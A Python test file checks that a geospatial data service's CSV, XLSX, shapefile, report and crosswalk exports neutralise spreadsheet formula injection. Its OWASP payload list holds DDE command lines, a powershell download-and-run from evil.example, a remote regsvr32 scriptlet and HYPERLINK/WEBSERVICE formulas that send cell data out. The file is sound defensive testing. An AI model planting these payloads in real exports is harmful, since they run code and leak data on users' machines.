"""No export lets a spreadsheet run a cell as a formula (issue 11, CSV/formula injection): text cells
starting with = + - @ tab or carriage return get a single quote in front in every CSV (OWASP's
guidance), every text cell of an XLSX is a string cell, and numbers, negative ones too, stay numbers.
Payloads from OWASP's "CSV Injection" page and the payload lists it points to."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
import zipfile

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from fastapi.testclient import TestClient

from api.app import create_app
from geo_ntm.crosswalk import PAIR_COLUMNS, Crosswalk
from geo_ntm.export_safety import safe_csv_cell, safe_frame_for_csv
from geo_ntm.infrastructure.coverage import write_table
from geo_ntm.report import report_csv
from geo_ntm.settings import Settings

#: OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection and the
#: lists it cites), each starting with a character a spreadsheet reads as the start of a formula.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x","sheet1!A2:E2")',
    '=IMAGE("http://evil.example/x.png")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=cmd|'/c powershell IEX(wget evil.example/s.ps1)'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    "=",
    "-",
    "+",
    "@",
    "＝1+1",  # full-width equals sign
]
#: Line breaks inside a cell: quoted, they stay in the cell and never start a row with a formula.
EMBEDDED = ["Xã A\r=1+1", "Xã B\n=1+1", "Xã C\r\n@SUM(1+1)"]
HARMLESS = ["Xã Nhơn Thạnh", "Phường 1", "a=b", "x-1", "", "'already quoted", " =1+1 inside"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_payload_is_neutralised(payload):
    assert safe_csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [*HARMLESS, -5, -1.5, 0, 3, None, True])
def test_other_values_are_left_alone(value):
    assert safe_csv_cell(value) is value or safe_csv_cell(value) == value


def test_frames_keep_numbers_as_numbers():
    frame = pd.DataFrame({"name": ["=1+1", "Xã A", None], "delta": [-3, 4, 5], "share": [-0.5, 0.2, None]})
    safe = safe_frame_for_csv(frame)
    assert list(safe["name"][:2]) == ["'=1+1", "Xã A"] and pd.isna(safe["name"][2])
    assert safe["delta"].dtype == frame["delta"].dtype and list(safe["delta"]) == [-3, 4, 5]
    assert safe["share"][0] == -0.5
    assert frame["name"][0] == "=1+1"  # the caller's frame is not changed


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]


def _assert_neutral(cells: list[str]) -> None:
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    # a negative number stays a number: it is the only kind of cell allowed to start with '-'
    assert [c for c in live if not _is_number(c)] == []


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- the service's downloads, on a store whose commune names are the payloads ------------------


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory, boundaries_2009_template):
    path = tmp_path_factory.mktemp("hostile") / "store.gpkg"
    shutil.copy(boundaries_2009_template, path)
    with sqlite3.connect(path) as db:
        codes = [
            r[0]
            for r in db.execute(
                "SELECT code FROM units WHERE level = 'commune' AND province_code = "
                "(SELECT province_code FROM units WHERE level = 'province' AND name LIKE '%Bến Tre') ORDER BY code"
            )
        ]
        assert len(codes) >= len(OWASP_PAYLOADS)
        for code, payload in zip(codes, OWASP_PAYLOADS, strict=False):
            db.execute("UPDATE units SET name = ? WHERE level = 'commune' AND code = ?", (payload, code))
    settings = Settings.from_env().model_copy(update=dict(db=str(path)))
    with TestClient(create_app(settings)) as c:
        yield c


def _download(client, fmt: str, **params):
    r = client.get("/collections/communes/download", params={"format": fmt, "province": "Bến Tre"} | params)
    assert r.status_code == 200, r.text
    return r


def test_csv_download_neutralises_every_payload(hostile_client):
    cells = _csv_cells(_download(hostile_client, "csv").content.decode("utf-8"))
    for payload in OWASP_PAYLOADS:
        assert "'" + payload in cells, payload
    _assert_neutral(cells)


def test_xlsx_download_writes_payloads_as_text_never_formulas(hostile_client, tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(_download(hostile_client, "xlsx").content)
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in zf.read(name).decode("utf-8"), name  # no formula anywhere
    book = openpyxl.load_workbook(path)
    sheet = book["communes"]
    header = [c.value for c in sheet[1]]
    names = {c.value: c.data_type for c in sheet[openpyxl.utils.get_column_letter(header.index("name") + 1)][1:]}
    for payload in OWASP_PAYLOADS:
        assert names.get(payload) == "s", payload  # the text itself, as a string cell
    population = [c for c in sheet[openpyxl.utils.get_column_letter(header.index("population") + 1)][1:]]
    assert all(c.data_type == "n" for c in population if c.value is not None)


def test_shapefile_field_list_is_neutral(hostile_client, tmp_path):
    path = tmp_path / "x.zip"
    path.write_bytes(_download(hostile_client, "shp").content)
    with zipfile.ZipFile(path) as zf:
        fields = next(n for n in zf.namelist() if n.endswith("_fields.csv"))
        _assert_neutral(_csv_cells(zf.read(fields).decode("utf-8")))


# -- the other exports: report, crosswalk, coverage tables --------------------------------------


def test_report_csv_neutralises_district_names():
    total = {"communes": 1, "communes_with_data": 1, "communes_without_data": 0, "all_criteria_met": 0}
    total |= {"avg_criteria_met": -1.5, "recognised": {}, "per_criterion": {"1": 1}, "level_reached": {}}
    from geo_ntm.domain import LEVEL_ORDER

    total["recognised"] = {lv: 0 for lv in LEVEL_ORDER}
    total["recognised_exact"] = {lv: 0 for lv in LEVEL_ORDER}
    total["all_criteria_met_not_recognised"] = 0
    report = {"districts": [dict(total, district=p) for p in OWASP_PAYLOADS], "total": total}
    cells = _csv_cells(report_csv(report))
    assert all("'" + p in cells for p in OWASP_PAYLOADS)
    assert "-1.5" in cells  # a negative number stays a number
    _assert_neutral(cells)


def test_crosswalk_csv_neutralises_names(tmp_path):
    n = len(OWASP_PAYLOADS)
    pairs = pd.DataFrame(
        {
            "old_code": [f"{i}" for i in range(n)],
            "old_name": OWASP_PAYLOADS,
            "new_code": ["=1+1"] * n,
            "new_name": (EMBEDDED * n)[:n],
            "shared_ha": [1.0] * n,
            "share_of_old": [0.5] * n,
            "share_of_new": [0.5] * n,
        }
    )[PAIR_COLUMNS]
    walk = Crosswalk(pairs, pairs.iloc[:0], pd.DataFrame(), 0.01, "+proj=aea")
    buffer = io.StringIO()
    walk.to_csv(buffer)
    cells = _csv_cells(buffer.getvalue())
    assert all("'" + p in cells for p in OWASP_PAYLOADS) and "'=1+1" in cells
    assert all(e in cells for e in EMBEDDED)
    _assert_neutral(cells)


def test_coverage_table_csv_neutralises_names(tmp_path):
    n = len(OWASP_PAYLOADS)
    frame = gpd.GeoDataFrame(
        {"name": OWASP_PAYLOADS, "district": (["@x", *EMBEDDED] * n)[:n], "km": [-1.25] * n},
        geometry=[shapely.Point(106, 10)] * n,
        crs="EPSG:4326",
    )
    path = tmp_path / "coverage.csv"
    write_table(frame, path, "coverage")
    cells = _csv_cells(path.read_bytes().decode("utf-8-sig"))
    assert all("'" + p in cells for p in OWASP_PAYLOADS) and "'@x" in cells and "-1.25" in cells
    assert all(e in cells for e in EMBEDDED)
    _assert_neutral(cells)
